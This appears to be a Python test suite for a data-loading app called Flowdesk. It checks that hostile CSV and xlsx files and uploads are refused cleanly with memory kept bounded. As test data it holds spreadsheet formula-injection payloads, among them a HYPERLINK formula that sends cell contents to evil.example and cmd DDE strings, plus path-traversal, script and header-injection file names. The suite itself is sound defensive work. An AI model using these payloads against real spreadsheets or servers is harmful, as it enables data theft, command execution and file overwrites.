"""Hostile input: every file of the corpus in tests/assets/hostile/ (and the large ones that
scripts/make_hostile_corpus.py generates into tests/assets/hostile/generated/) gets a clear
message naming the line where there is one, never a crash; the data tables stay
checksum-identical; uploads are stored only inside UPLOAD_FOLDER under names Flowdesk chooses;
and a load's memory stays bounded however the file is built.
"""
from __future__ import annotations

import csv
import hashlib
import io
import os
import subprocess
import sys
import unittest
from pathlib import Path

from parameterized import parameterized

from app.extensions import db
from app.loading import LoadRequest, run_load
from app.models import Flow, LoadBatch, Response
from tests.base import ADMIN, ASSETS, FlowdeskTestCase, on_every_backend
from tests.integrity import data_checksums

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / 'scripts'))
import make_hostile_corpus as corpus  # noqa: E402

HOSTILE = ASSETS / 'hostile'
BASELINE_FLOWS = ('flow_code,name,flow_type,source_system,target_system\r\n'
                  'ORD-SAP,Orders to SAP,API,Shop,SAP\r\n'
                  'INV-DWH,Invoices to the warehouse,BATCH,SAP,DWH\r\n')
BASELINE_RESPONSES = (corpus.RESPONSES_HEADER + '\r\n'
                      + ''.join(corpus.response_line(n, 'baseline') + '\r\n'
                                for n in range(900_001, 900_011)))
#: Peak resident memory allowed to a `flask load` of one hostile file (the interpreter and the
#: app alone take about 80 MB; docs/architecture.md §10 allows a load 150 MB).
MEMORY_LIMIT_MB = 200
#: A hard address-space cap on those subprocesses, so that a loader without its guards fails
#: the test instead of exhausting the machine.
ADDRESS_SPACE_CAP = 1536 * 1024 * 1024
#: Runs argv[2:] with its address space capped at argv[1] bytes and prints its peak RSS.
PEAK_LAUNCHER = """
import os, resource, subprocess, sys
cap = int(sys.argv[1])
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
child = subprocess.Popen(sys.argv[2:], stderr=subprocess.DEVNULL)
_pid, status, usage = os.wait4(child.pid, 0)
sys.stderr.write(f'FLOWDESK_PEAK_KB={usage.ru_maxrss}')
sys.exit(os.waitstatus_to_exitcode(status))
"""


def line_of(path: Path, marker: bytes) -> int:
    """The 1-based line of the file holding ``marker``."""
    with open(path, 'rb') as handle:
        for number, raw in enumerate(handle, start=1):
            if marker in raw:
                return number
    raise AssertionError(f'{marker!r} not in {path}')


def generated(name: str) -> Path:
    return corpus.generate_large()[name]


#: (file, dataset, words the message must hold, line, column) for files that must be refused.
REFUSED = [
    ('zero_byte.csv', 'responses', 'The file is empty', None, None),
    ('pdf_named.csv', 'responses', 'PDF document', None, None),
    ('utf16_bom.csv', 'responses', 'UTF-16', None, None),
    ('utf16_no_bom.csv', 'responses', 'not CSV text', None, None),
    ('nul_at_start.csv', 'responses', 'not CSV text', None, None),
    ('nul_in_cell.csv', 'responses', 'NUL', 202, 'error_reason'),
    ('invalid_utf8.csv', 'responses', 'Bad encoding', 5, 'error_reason'),
    ('unbalanced_quote.csv', 'responses', 'the header has 8 columns', 5, None),
    ('csv_injection_key.csv', 'flows', 'flow_code', 3, 'flow_code'),
    ('xlsm_renamed.xlsx', 'responses', 'macro', None, None),
]
REFUSED_GENERATED = [
    ('field_10mb.csv', 'responses', 'unclosed quote', 5, None),
    ('invalid_utf8_past_sample.csv', 'responses', 'not valid UTF-8', b'\xff\xfe', 'error_reason'),
    ('xlsx_bomb.xlsx', 'responses', 'expands', None, None),
]


class LoadingTestCase(FlowdeskTestCase):
    """Flows and a few responses are loaded before each test, as an admin would have."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.files = corpus.generate_large()
        cls.baseline = Path(cls.databases.folder) / 'baseline'
        cls.baseline.mkdir()
        (cls.baseline / 'flows.csv').write_text(BASELINE_FLOWS, encoding='utf-8', newline='')
        (cls.baseline / 'responses.csv').write_text(BASELINE_RESPONSES, encoding='utf-8',
                                                    newline='')

    def setUp(self):
        super().setUp()
        for dataset in ('flows', 'responses'):
            outcome = self.load(self.baseline / f'{dataset}.csv', dataset)
            self.assertTrue(outcome.ok, outcome.message)
        self.before = data_checksums()

    def load(self, path: Path, dataset: str = 'responses', mode: str = 'append', **options):
        return run_load(LoadRequest(dataset=dataset, mode=mode, path=path,
                                    file_name=options.pop('file_name', path.name), user=ADMIN,
                                    allow_duplicate=True, lock_wait_seconds=10, **options))

    def assertRefused(self, outcome, words, line, column):
        everything = ' | '.join([outcome.message] + [p.message for p in outcome.problems.kept])
        self.assertFalse(outcome.ok, everything)
        self.assertEqual(outcome.status, 'failed')
        self.assertIn('nothing was changed', outcome.message)
        self.assertIn(words, everything)
        problem = next(p for p in outcome.problems.kept if words in p.message
                       or words == p.column)
        self.assertEqual(problem.line, line, problem)
        if column is not None:
            self.assertEqual(problem.column, column, problem)
        self.assertLess(len(problem.message), 500, 'a message a person can read')
        self.assertLessEqual(len(problem.value or ''), 80)
        batch = db.session.get(LoadBatch, outcome.batch_id)
        self.assertEqual(batch.status, 'failed')
        self.assertGreaterEqual(batch.error_count, 1)
        self.assertEqual(data_checksums(), self.before)


@on_every_backend
class HostileFileTests(LoadingTestCase):
    @parameterized.expand(REFUSED)
    def test_refused_with_a_clear_message(self, name, dataset, words, line, column):
        self.assertRefused(self.load(HOSTILE / name, dataset), words, line, column)

    @parameterized.expand(REFUSED_GENERATED)
    def test_large_file_refused_with_a_clear_message(self, name, dataset, words, line, column):
        path = self.files[name]
        if isinstance(line, bytes):
            line = line_of(path, line)
        self.assertRefused(self.load(path, dataset), words, line, column)

    def test_formula_cells_are_stored_as_text(self):
        outcome = self.load(HOSTILE / 'csv_injection_text.csv', 'flows')
        self.assertTrue(outcome.ok, outcome.message)
        flow = db.session.get(Flow, 'INJ-1')
        self.assertEqual(flow.name, '=HYPERLINK("http://evil.example/?"&A1,"Click")')
        self.assertEqual(flow.owner_team, '@SUM(1+1)')
        self.assertEqual(flow.description, "+cmd|' /C calc'!A0")

    def test_formula_cells_are_neutralised_in_the_csv_export(self):
        outcome = self.load(HOSTILE / 'csv_injection_responses.csv')
        self.assertTrue(outcome.ok, outcome.message)
        self.assertEqual(db.session.get(Response, 1).error_reason, "=cmd|' /C calc'!A0")
        export = self.client.get('/responses/export.csv', query_string={'flow': 'ORD-SAP'})
        self.assertEqual(export.status_code, 200)
        rows = list(csv.reader(io.StringIO(export.get_data(as_text=True).lstrip('\ufeff'))))
        reasons = {row[rows[0].index('response_id')]: row[rows[0].index('error_reason')]
                   for row in rows[1:]}
        self.assertEqual(reasons['1'], "'=cmd|' /C calc'!A0")
        self.assertEqual(reasons['2'], '\'=HYPERLINK("http://evil.example","x")')
        self.assertEqual(reasons['3'], "'@SUM(A1:A9)")
        self.assertEqual(reasons['4'], "'+1-1")

    def test_a_header_of_100000_columns_gives_a_readable_note(self):
        outcome = self.load(self.files['header_100k_columns.csv'])
        self.assertTrue(outcome.ok, outcome.message)
        self.assertEqual(outcome.counts.inserted, 2)
        self.assertIn('Ignored', outcome.message)
        self.assertLess(len(outcome.message), 2000, 'the note names a few columns and counts the rest')
        self.assertIn('and 99,972 more', outcome.message)


class HostileUploadTests(LoadingTestCase):
    """Through the upload page: names and content types are the browser's word, not facts."""

    GOOD_FLOWS = (b'flow_code,name,flow_type,source_system,target_system\r\n'
                  b'NEW-1,New flow,API,Shop,SAP\r\n')

    def setUp(self):
        super().setUp()
        self.upload_folder = Path(self.app.config['UPLOAD_FOLDER'])
        self.web_config = ROOT / 'web.config'
        self.web_config_digest = self.digest(self.web_config)
        self.files_before = self.all_files()

    @staticmethod
    def digest(path: Path) -> str | None:
        return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None

    def all_files(self) -> set[Path]:
        found = set()
        for base in (Path(self.databases.folder), self.upload_folder):
            if base.exists():
                found |= {path for path in base.rglob('*') if path.is_file()}
        return found

    def upload(self, data: bytes, file_name: str, content_type: str = 'text/csv',
               dataset: str = 'flows', dry_run: bool = False):
        form = {'dataset': dataset, 'mode': 'upsert', 'encoding': 'auto',
                'file': (io.BytesIO(data), file_name, content_type)}
        if dry_run:
            form['dry_run'] = 'y'
        return self.admin_client().post('/admin/loads', data=form,
                                        content_type='multipart/form-data', follow_redirects=True)

    def assertStoredOnlyInTheUploadFolder(self):
        new = self.all_files() - self.files_before
        for path in new:
            if path.suffix == '.db' or '.db-' in path.name or path.name.endswith('.load-lock'):
                continue  # the test's own databases
            self.assertEqual(path.parent.resolve(), self.upload_folder.resolve(), path)
            self.assertRegex(path.name, r'^[0-9a-f]{64}\.upload$')
        self.assertEqual(self.digest(self.web_config), self.web_config_digest)
        self.assertFalse((self.upload_folder.parent / 'web.config').exists())

    @parameterized.expand([
        ('traversal', '../../web.config.csv'),
        ('windows_traversal', '..\\..\\web.config.csv'),
        ('absolute', '/etc/cron.d/flowdesk.csv'),
        ('drive', 'C:\\Windows\\System32\\flows.csv'),
        ('long', 'f' * 1000 + '.csv'),
        ('non_ascii', 'Ответы_応答_Zeitüberschreitung.csv'),
        ('markup', '<script>alert(1)</script>.csv'),
        ('control', 'flows\x07\x1b[2J.csv'),
    ])
    def test_file_names_never_become_paths(self, _label, file_name):
        # Where a name used as a path would have landed: none of these may appear.
        targets = [(base / file_name.replace('\\', '/').lstrip('/')).resolve()
                   for base in (self.upload_folder, ROOT) if '..' in file_name]
        targets += [Path(file_name)] if file_name.startswith('/') else []
        existing = {target for target in targets if target.exists()}
        response = self.upload(self.GOOD_FLOWS, file_name)
        body = response.get_data(as_text=True)
        self.assertEqual(response.status_code, 200, body[:500])
        self.assertIn('1 records loaded', body)
        self.assertNotIn('<script>alert(1)', body)
        self.assertStoredOnlyInTheUploadFolder()
        self.assertEqual({target for target in targets if target.exists()}, existing)
        batch = db.session.execute(db.select(LoadBatch).order_by(LoadBatch.id.desc())).scalars().first()
        self.assertLessEqual(len(batch.file_name), 260)
        self.assertEqual(db.session.get(Flow, 'NEW-1').name, 'New flow')

    def test_a_name_that_breaks_the_multipart_header_is_refused_cleanly(self):
        response = self.upload(self.GOOD_FLOWS, 'flows\r\nContent-Type: text/html\r\n\r\nx.csv')
        self.assertEqual(response.status_code, 400)
        self.assertIn('Choose a CSV or xlsx file', response.get_data(as_text=True))
        self.assertStoredOnlyInTheUploadFolder()
        self.assertEqual(data_checksums(), self.before)

    def test_traversal_name_that_is_not_csv_is_refused_by_its_extension(self):
        response = self.upload(self.GOOD_FLOWS, '../../web.config')
        body = response.get_data(as_text=True)
        self.assertEqual(response.status_code, 400)
        self.assertIn('Only CSV', body)
        self.assertStoredOnlyInTheUploadFolder()
        self.assertEqual(data_checksums(), self.before)

    def test_a_wrong_content_type_does_not_matter_the_content_does(self):
        response = self.upload(self.GOOD_FLOWS, 'flows.csv', content_type='application/pdf')
        self.assertIn('1 records loaded', response.get_data(as_text=True))
        pdf = (HOSTILE / 'pdf_named.csv').read_bytes()
        before = data_checksums()
        response = self.upload(pdf, 'flows.csv', content_type='text/csv')
        self.assertIn('PDF document', response.get_data(as_text=True))
        self.assertEqual(data_checksums(), before)
        self.assertStoredOnlyInTheUploadFolder()

    def test_macro_workbook_renamed_xlsx_is_refused_on_upload(self):
        response = self.upload((HOSTILE / 'xlsm_renamed.xlsx').read_bytes(), 'responses.xlsx',
                               content_type='application/vnd.openxmlformats-officedocument.'
                                            'spreadsheetml.sheet', dataset='responses')
        self.assertIn('macro', response.get_data(as_text=True))
        self.assertEqual(data_checksums(), self.before)

    def test_a_plain_xlsx_still_loads_through_the_page(self):
        """The control for the refusals above: the same kind of file without macros loads."""
        from openpyxl import Workbook
        book = Workbook()
        sheet = book.active
        sheet.append(['flow_code', 'name', 'flow_type', 'source_system', 'target_system'])
        sheet.append(['NEW-1', 'New flow', 'API', 'Shop', 'SAP'])
        buffer = io.BytesIO()
        book.save(buffer)
        response = self.upload(buffer.getvalue(), 'flows.xlsx',
                               content_type='application/vnd.openxmlformats-officedocument.'
                                            'spreadsheetml.sheet')
        self.assertIn('1 records loaded', response.get_data(as_text=True))
        self.assertStoredOnlyInTheUploadFolder()


class BoundedMemoryTests(FlowdeskTestCase):
    """A real ``flask load`` process per large hostile file: peak resident memory stays under
    MEMORY_LIMIT_MB and the process ends with a message (exit status 1), not a crash."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.files = corpus.generate_large()
        flows = Path(cls.databases.folder) / 'flows.csv'
        flows.write_text(BASELINE_FLOWS, encoding='utf-8', newline='')
        outcome = run_load(LoadRequest(dataset='flows', mode='append', path=flows,
                                       file_name='flows.csv', user=ADMIN))
        assert outcome.ok, outcome.message

    def setUp(self):
        # Keep the flows loaded once for the class.
        self.client = self.client_for(ADMIN)

    def peak_mb(self, path: Path, dataset: str = 'responses') -> tuple[float, int, str]:
        environ = {key: value for key, value in os.environ.items()
                   if not key.startswith(('FLASK_', 'FLOWDESK_', 'DATABASE_URL', 'OPS_'))}
        environ.update(self.databases.settings, FLASK_APP='flasky', FLASK_CONFIG='testing',
                       LOG_LEVEL='ERROR', PYTHONPATH=str(ROOT))

        # The load runs as the grandchild of this test process, started by a small launcher:
        # a forked child's peak RSS counts the parent's pages from before its exec, and the test
        # runner's own size would be measured instead of the load's.
        process = subprocess.run(
            [sys.executable, '-c', PEAK_LAUNCHER, str(ADDRESS_SPACE_CAP),
             sys.executable, '-m', 'flask', 'load', dataset, str(path), '--mode', 'append'],
            cwd=ROOT, env=environ, capture_output=True)
        output = process.stdout.decode('utf-8', 'replace')
        peak_kb = int(process.stderr.decode('utf-8', 'replace').rsplit('FLOWDESK_PEAK_KB=', 1)[1])
        return peak_kb / 1024, process.returncode, output

    @parameterized.expand([
        ('field_10mb.csv', 'unclosed quote'),
        ('header_100k_columns.csv', 'records loaded'),
        ('xlsx_bomb.xlsx', 'expands'),
    ])
    def test_peak_memory_of_a_load(self, name, words):
        before = data_checksums()
        peak, status, output = self.peak_mb(self.files[name])
        self.assertIn(words, output)
        self.assertNotIn('Traceback', output)
        self.assertEqual(status, 0 if words == 'records loaded' else 1, output[-500:])
        self.assertLess(peak, MEMORY_LIMIT_MB, f'{name}: peak RSS {peak:.0f} MB')
        if status:
            self.assertEqual(data_checksums(), before)


if __name__ == '__main__':
    unittest.main()
